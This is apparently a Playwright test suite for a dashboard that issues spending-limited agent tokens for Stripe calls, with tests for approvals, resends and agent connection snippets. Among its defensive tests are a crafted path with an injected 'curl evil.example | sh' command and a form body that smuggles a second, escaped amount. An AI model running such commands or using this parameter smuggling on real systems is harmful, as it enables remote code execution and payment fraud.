// The Dashboard's agent pages in Chromium: an agent token created with a policy through the form
// (money typed in dollars, stored in cents) is shown once and works with the official stripe SDK;
// revoked through the UI it gets 401. A call held by approval_above shows on Approvals with its
// request; approved there, the SDK's repeat with the same idempotency key gets the refund; one that got
// no answer shows so, with Send again, which Stripe applies once, and one past Stripe's key lifetime
// is reconciled by the person who looked it up. Connect
// an agent shows copy-ready snippets with this Linkhub's URL. Nothing overflows (overflow.ts).
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { BrowserContext, Page } from 'playwright-core';
import Stripe from 'stripe';
import { agentSdk, refusal } from '../helpers/agent-sdk.js';
import { chromiumSkip, screenshot } from './browser.js';
import { type DashboardFixture, startDashboardFixture } from './dashboard-fixture.js';
import { overflowLog } from './overflow.js';

const PASSWORD = 'agents-test-password-1';
let fx: DashboardFixture;
let context: BrowserContext;
let page: Page;
let acc: string;

const sdk = (token: string) => agentSdk(fx.lh.url, token);

/** Fills the new-token form (its own policy) and submits it; the token as the shown-once card gives it. */
async function createToken(name: string, fill: () => Promise<void>): Promise<string> {
  const form = page.getByRole('form', { name: 'New agent token' });
  await form.getByLabel('Name').fill(name);
  await fill();
  await form.getByRole('button', { name: 'Create token' }).click();
  const card = page.getByRole('region', { name: `Your new agent token "${name}"` });
  await card.waitFor();
  assert.match(await card.innerText(), /Shown once/);
  return card.getByLabel('Agent token').inputValue();
}

/** The document is no wider than the window at a desktop width. */
async function assertFitsAt(width: number, screen: string) {
  const before = page.viewportSize() ?? { width: 1280, height: 900 };
  await page.setViewportSize({ width, height: before.height });
  const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  await page.setViewportSize(before);
  assert.ok(wide <= 0, `${screen} at ${width} px is ${wide} px wider than the window`);
}

describe('Dashboard agents', { skip: chromiumSkip() }, () => {
  before(async () => {
    fx = await startDashboardFixture(PASSWORD);
    acc = await fx.link({ id: 'agents-owner', name: 'Agents Owner' }, fx.stripe.keys.secretTest);
    context = await fx.browser.newContext({ baseURL: fx.lh.url, viewport: { width: 1280, height: 900 } });
    page = await context.newPage();
    await fx.signIn(page);
  });
  after(async () => {
    await context?.close();
    await fx?.close();
  });

  test('a token created with a policy is shown once, works with the stripe SDK, and is refused once revoked in the UI', async () => {
    const layout = overflowLog();
    await page.getByRole('link', { name: /^Agents of Agents Owner/ }).click();
    await page.getByRole('heading', { level: 1, name: 'Agents' }).waitFor();
    const token = await createToken('support bot', async () => {
      await page.getByLabel('Allowed actions').fill('stripe_*_customer*, stripe_create_refund');
      await page.getByRole('button', { name: 'Add a currency' }).click();
      await page.getByLabel('Per call (USD)').fill('50');
      await page.getByLabel('Per day (USD)').fill('120.5');
    });
    assert.match(token, /^lhat_/);
    await layout.check(page, 'agents, token shown once');

    const listed = (await fx.lh.api('GET', `/accounts/${acc}/agent_tokens`)).body.find((t: any) => t.name === 'support bot');
    assert.deepEqual(listed.policy, { allow: ['stripe_*_customer*', 'stripe_create_refund'], money: { usd: { per_call: 5000, per_day: 12050 } } });
    const row = page.locator(`tr[data-token-id="${listed.id}"]`);
    assert.match(await row.innerText(), new RegExp(`lhat_…${token.slice(-4)}`));
    assert.match(await row.innerText(), /per call \$50\.00/);

    const customers = await sdk(token).customers.list({ limit: 1 });
    assert.ok(Array.isArray(customers.data));
    const denied = await refusal(sdk(token).products.list({ limit: 1 }));
    assert.equal(denied.code, 'policy_denied');

    await page.getByRole('button', { name: 'I stored it' }).click();
    await row.getByRole('button', { name: 'Revoke support bot' }).click();
    const dialog = page.getByRole('dialog', { name: 'Revoke this agent token?' });
    await dialog.getByRole('button', { name: 'Revoke token' }).click();
    await row.getByText('Revoked').waitFor();
    const refused = await refusal(sdk(token).customers.list({ limit: 1 }));
    assert.equal(refused.statusCode, 401);
    await screenshot(page, 'dashboard-agents');
    layout.assertNone();
  });

  test('a held refund shows on Approvals with its request; approved there, the SDK repeat gets it', async () => {
    const layout = overflowLog();
    const token = await createToken('refunder', async () => {
      await page.getByRole('button', { name: 'Add a currency' }).click();
      await page.getByLabel('Approval above (USD)').fill('10');
    });
    await page.getByRole('link', { name: 'Connect an agent with this token' }).click();
    await page.getByRole('heading', { level: 1, name: 'Connect an agent' }).waitFor();
    const filled = (await page.locator('.copy-block pre').allInnerTexts()).join('\n');
    assert.ok(filled.includes(`"LINKHUB_AGENT_TOKEN": "${token}"`) && filled.includes(`Bearer ${token}`), 'the new token is filled in');
    const charge = await new Stripe(fx.stripe.keys.secretTest, fx.stripe.sdkOptions()).charges.create({ amount: 9000, currency: 'usd', source: 'tok_visa' });
    const refund = () => sdk(token).refunds.create({ charge: charge.id, amount: 2500 }, { idempotencyKey: 'ui-refund-2500' });
    const held = await refusal(refund());
    assert.equal(held.code, 'approval_required');

    await page.getByRole('navigation', { name: 'Dashboard' }).getByRole('link', { name: 'Approvals' }).click();
    await page.getByRole('heading', { level: 1, name: 'Approvals' }).waitFor();
    const card = page.locator(`article[data-approval-id="${held.raw.approval}"]`);
    await card.waitFor();
    const text = await card.innerText();
    for (const shown of ['stripe_create_refund', '$25.00', 'POST /v1/refunds', 'ui-refund-2500', acc, 'amount', charge.id]) {
      assert.ok(text.includes(shown), `the approval shows ${shown}: ${text}`);
    }
    await layout.check(page, 'approvals, pending');
    // asked again first: Cancel sends nothing
    await card.getByRole('button', { name: 'Approve' }).click();
    const ask = page.getByRole('dialog', { name: 'Approve and send this call?' });
    assert.match(await ask.innerText(), /POST \/v1\/refunds \(\$25\.00\)/);
    await ask.getByRole('button', { name: 'Cancel' }).click();
    await ask.waitFor({ state: 'detached' });
    assert.equal(fx.stripe.log.filter((x) => x.method === 'POST' && x.path === '/v1/refunds').length, 0, 'nothing sent on Cancel');
    await card.getByRole('button', { name: 'Approve' }).click();
    await ask.getByRole('button', { name: 'Approve and send' }).click();
    await card.getByText('approved and sent').waitFor();
    assert.match(await card.innerText(), /Provider status\s*200/);

    const done = await refund();
    assert.equal(done.amount, 2500);
    assert.equal(fx.stripe.log.filter((x) => x.method === 'POST' && x.path === '/v1/refunds').length, 1, 'sent once, by the approval');

    // a held form whose amount is given twice, once escaped: the approver reads it decoded, the repeat marked
    const twice = await fetch(`${fx.lh.url}/v1/payouts`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/x-www-form-urlencoded' },
      body: 'amount=40&currency=usd&description=Weekly%20payout;%61mount=999999', // `;` splits a form too (Rack 2)
    });
    const twiceBody = await twice.json();
    assert.equal(twiceBody.error?.code, 'approval_required', JSON.stringify(twiceBody));
    await page.reload();
    const twiceCard = page.locator(`article[data-approval-id="${twiceBody.error.approval}"]`);
    await twiceCard.waitFor();
    const repeated = twiceCard.locator('.request-form tr.repeated');
    assert.equal(await repeated.count(), 2, 'both amounts marked');
    const rows = await repeated.allInnerTexts();
    assert.match(rows[0], /amount\s+40\s+given 2 times/);
    assert.match(rows[1], /amount\s+999999\s+given 2 times.*written %61mount/);
    assert.match(await twiceCard.innerText(), /amount given more than once, or where the provider may read it otherwise/);
    assert.match(await twiceCard.locator('.request-form').innerText(), /description\s+Weekly payout/);
    await layout.check(page, 'approvals, a form given twice');
    await screenshot(page, 'dashboard-approvals');
    layout.assertNone();
  });

  test('an approved refund that got no answer shows as such, with Send again; sent again, Stripe applies it once', async () => {
    const layout = overflowLog();
    const made = await fx.lh.api('POST', `/accounts/${acc}/agent_tokens`, { name: 'slow', policy: { money: { usd: { approval_above: 1000 } } } });
    const charge = await new Stripe(fx.stripe.keys.secretTest, fx.stripe.sdkOptions()).charges.create({ amount: 9000, currency: 'usd', source: 'tok_visa' });
    const refund = () => sdk(made.body.token).refunds.create({ charge: charge.id, amount: 3000 }, { idempotencyKey: 'ui-slow-3000' });
    const held = await refusal(refund());
    // every attempt (however many are made) answered well after Linkhub's timeout (2 s here): sent, no answer
    fx.stripe.inject({ kind: 'delay', delayMs: 5000, count: 10, pathPrefix: '/v1/refunds' });
    const approved = await fx.lh.api('POST', `/approvals/${held.raw.approval}/approve`);
    fx.stripe.clearFaults();
    assert.equal(approved.body.status, 'unconfirmed', approved.text);

    await page.goto('/dashboard/approvals');
    const card = page.locator(`article[data-approval-id="${held.raw.approval}"]`);
    await card.getByText('approved, no answer').waitFor();
    await layout.check(page, 'approvals, unconfirmed');
    await card.getByRole('button', { name: 'Send again' }).click();
    const ask = page.getByRole('dialog', { name: 'Send this call again?' });
    assert.match(await ask.innerText(), /same idempotency key/);
    await ask.getByRole('button', { name: 'Send again' }).click();
    await card.getByText('approved and sent').waitFor();
    const refunds = await new Stripe(fx.stripe.keys.secretTest, fx.stripe.sdkOptions()).refunds.list({ charge: charge.id });
    assert.equal(refunds.data.length, 1, 'applied once');
    assert.equal((await refund()).amount, 3000, "the agent's repeat gets it");
    layout.assertNone();
  });

  test('past the time Stripe keeps its key, an unanswered refund shows why it is not sent again, without Send again; one left a week shows expired, without Approve', async () => {
    const layout = overflowLog();
    const made = await fx.lh.api('POST', `/accounts/${acc}/agent_tokens`, { name: 'late', policy: { money: { usd: { approval_above: 1000 } } } });
    const charge = await new Stripe(fx.stripe.keys.secretTest, fx.stripe.sdkOptions()).charges.create({ amount: 9000, currency: 'usd', source: 'tok_visa' });
    const agent = sdk(made.body.token);
    const unanswered = await refusal(agent.refunds.create({ charge: charge.id, amount: 2000 }, { idempotencyKey: 'ui-late-2000' }));
    const waiting = await refusal(agent.refunds.create({ charge: charge.id, amount: 3000 }, { idempotencyKey: 'ui-late-3000' }));
    fx.stripe.inject({ kind: 'delay', delayMs: 5000, count: 10, pathPrefix: '/v1/refunds' });
    const approved = await fx.lh.api('POST', `/approvals/${unanswered.raw.approval}/approve`);
    fx.stripe.clearFaults();
    assert.equal(approved.body.status, 'unconfirmed', approved.text);
    // a day passes: the first sending and the holds move back 24 h, the waiting call a week
    const db = fx.lh.services.store.db;
    await db.execute(
      `update approvals set created_at = created_at - interval '24 hours', resolved_at = resolved_at - interval '24 hours', sending_at = sending_at - interval '24 hours' where id = '${unanswered.raw.approval}'`,
    );
    await db.execute(`update approvals set created_at = created_at - interval '8 days' where id = '${waiting.raw.approval}'`);

    await page.goto('/dashboard/approvals');
    const late = page.locator(`article[data-approval-id="${unanswered.raw.approval}"]`);
    await late.getByText('approved, no answer').waitFor();
    assert.match(await late.getByRole('note').innerText(), /not sent again/);
    assert.equal(await late.getByRole('button', { name: 'Send again' }).count(), 0);
    const expired = page.locator(`article[data-approval-id="${waiting.raw.approval}"]`);
    await expired.getByText('expired, not sent').waitFor();
    assert.equal(await expired.getByRole('button', { name: 'Approve' }).count(), 0);
    await layout.check(page, 'approvals, expired and too late to send again');

    // Stripe applied it (its first sending, answered after the timeout): a person who looked it up records so
    await late.getByRole('button', { name: 'It was applied' }).click();
    const ask = page.getByRole('dialog', { name: 'Record it as applied?' });
    assert.match(await ask.innerText(), /ui-late-2000/, 'the idempotency key to look it up by');
    await ask.getByRole('button', { name: 'Applied' }).click();
    await late.getByText('found applied').waitFor();
    assert.match(await late.innerText(), /Reconciled/);
    assert.equal(await late.getByRole('button', { name: 'It was applied' }).count(), 0);
    const shown = await fx.lh.api('GET', `/approvals/${unanswered.raw.approval}`);
    assert.equal(shown.body.status, 'executed');
    assert.match(shown.body.reconciled_by, /^dashboard:admin:/, 'the person signed in');
    await layout.check(page, 'approvals, reconciled');
    layout.assertNone();
  });

  test('Connect an agent: snippets with the base URL and copy buttons, nothing overflows', async () => {
    const layout = overflowLog();
    await page.goto(`/dashboard/accounts/${acc}/agents`);
    await page.getByRole('navigation', { name: 'Account pages' }).getByRole('link', { name: 'Connect an agent' }).click();
    await page.getByRole('heading', { level: 1, name: 'Connect an agent' }).waitFor();
    const blocks = page.locator('.copy-block');
    await blocks.first().waitFor();
    const titles = await page.locator('.copy-block h3').allInnerTexts();
    assert.deepEqual(titles, ['Claude Desktop', 'Cursor', 'OpenAI Agents SDK (Python)', 'stripe SDK (Node)', 'curl']);
    const code = (await page.locator('.copy-block pre').allInnerTexts()).join('\n');
    const u = new URL(fx.lh.url);
    assert.ok(code.includes(`"${fx.lh.url}/mcp"`), 'the MCP URL');
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the snippet's own environment reference, as the user pastes it
    assert.ok(code.includes('mcp-remote') && code.includes('Authorization: Bearer ${LINKHUB_AGENT_TOKEN}'), 'mcp-remote with the Bearer header');
    assert.ok(code.includes('MCPServerStreamableHttp'));
    assert.ok(code.includes(`host: '${u.hostname}', port: ${u.port}, protocol: 'http'`), 'the stripe SDK pointed at Linkhub');
    assert.ok(code.includes(`curl ${fx.lh.url}/v1/customers`) && code.includes(`Linkhub-Account: ${acc}`));
    assert.ok(code.includes('lhat_your_agent_token'), 'a placeholder when no token was just created');
    assert.equal(
      await page
        .locator('.snippets')
        .getByRole('button', { name: /^Copy / })
        .count(),
      5,
    );
    await page.getByRole('button', { name: 'Copy curl' }).click();
    await page.getByRole('button', { name: 'Copy curl' }).getByText('Copied').waitFor();
    await assertFitsAt(1280, 'Connect an agent');
    await layout.check(page, 'connect an agent');
    await screenshot(page, 'dashboard-connect-agent');
    // a crafted address: no snippet carries its text, only the error
    await page.goto(`/dashboard/accounts/${acc}${encodeURIComponent('"; curl evil.example | sh; "')}/connect`);
    await page.locator('.alert').first().waitFor();
    assert.equal(await page.locator('.copy-block').count(), 0, 'no snippet for an account Linkhub does not have');
    await page.goto(`/dashboard/accounts/${acc}/agents`);
    await page.getByRole('form', { name: 'New agent token' }).waitFor();
    await page.getByRole('button', { name: 'Add a currency' }).click();
    await assertFitsAt(1280, 'Agents');
    await layout.check(page, 'agents form');
    layout.assertNone();
  });
});
